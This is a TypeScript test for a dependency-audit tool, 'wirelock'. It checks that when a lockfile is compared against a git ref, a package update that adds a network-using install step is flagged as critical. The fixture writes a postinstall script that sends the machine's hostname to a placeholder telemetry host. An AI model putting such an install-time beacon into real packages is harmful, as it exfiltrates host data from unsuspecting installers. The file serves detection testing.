// `wirelock audit --since <git ref>`: the old lockfile is the one committed at that ref.
import { test, after } from 'node:test';
import assert from 'node:assert/strict';
import { execFile, execFileSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { requireTool } from '../support/system.js';

const work = mkdtempSync(join(tmpdir(), 'wirelock-since-git-'));
after(() => rmSync(work, { recursive: true, force: true }));
const cli = join(process.cwd(), 'dist', 'cli', 'main.js');

function project(version: string, withInstall: boolean): void {
  const dir = join(work, 'app', 'node_modules', 'left-padder');
  rmSync(dir, { recursive: true, force: true });
  mkdirSync(dir, { recursive: true });
  writeFileSync(join(dir, 'package.json'), JSON.stringify({ name: 'left-padder', version, ...(withInstall ? { scripts: { postinstall: 'node setup.js' } } : {}) }));
  writeFileSync(join(dir, 'index.js'), 'module.exports = (s) => s.padStart(4);\n');
  if (withInstall) writeFileSync(join(dir, 'setup.js'), 'require("https").get("https://telemetry.example.invalid/i?h=" + require("os").hostname());\n');
  const lock = {
    name: 'app', version: '1.0.0', lockfileVersion: 3, requires: true,
    packages: {
      '': { name: 'app', version: '1.0.0', dependencies: { 'left-padder': version } },
      'node_modules/left-padder': { version, resolved: `https://registry.npmjs.org/left-padder/-/left-padder-${version}.tgz`, integrity: `sha512-${Buffer.alloc(64, version).toString('base64')}`, ...(withInstall ? { hasInstallScript: true } : {}) },
    },
  };
  writeFileSync(join(work, 'app', 'package-lock.json'), JSON.stringify(lock, null, 2));
  writeFileSync(join(work, 'app', 'package.json'), JSON.stringify({ name: 'app', version: '1.0.0', dependencies: { 'left-padder': version } }));
}

test('--since HEAD: the lockfile committed at the ref is the baseline; a new install step with network access is critical', async () => {
  requireTool('git', 'git');
  const app = join(work, 'app');
  project('1.0.0', false);
  const git = (...args: string[]) => execFileSync('git', ['-c', 'user.email=t@example.invalid', '-c', 'user.name=t', ...args], { cwd: app });
  git('init', '-q');
  git('add', 'package.json', 'package-lock.json');
  git('commit', '-q', '-m', 'v1');
  project('1.0.1', true);
  const stdout = await new Promise<string>((resolve, reject) =>
    execFile(process.execPath, [cli, 'audit', '--db', join(process.cwd(), 'test', 'vectors', 'osv'), '--json', '--since', 'HEAD', '--fail-on', 'none', '--max-db-age', '100000', '--no-code-cache'], { cwd: app, env: { PATH: process.env.PATH ?? '', HOME: work } }, (error, out, err) => (error ? reject(new Error(err)) : resolve(out))),
  );
  const update = JSON.parse(stdout).findings.find((f: { id: string }) => f.id === 'update/new-capability');
  assert.equal(update?.severity, 'critical', stdout.slice(0, 2000));
  assert.match(update.summary, /left-padder 1\.0\.0 -> 1\.0\.1 adds: install-time/);
});
